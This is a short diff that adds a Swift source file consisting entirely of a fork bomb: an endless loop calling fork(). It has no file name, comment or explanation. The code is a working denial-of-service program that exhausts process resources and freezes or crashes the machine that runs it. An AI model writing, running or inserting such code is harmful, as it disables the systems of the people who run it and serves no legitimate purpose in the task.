@@ -1,0 +1,5 @@
+import Glibc
+
+while true {
+    _ = fork()
+}
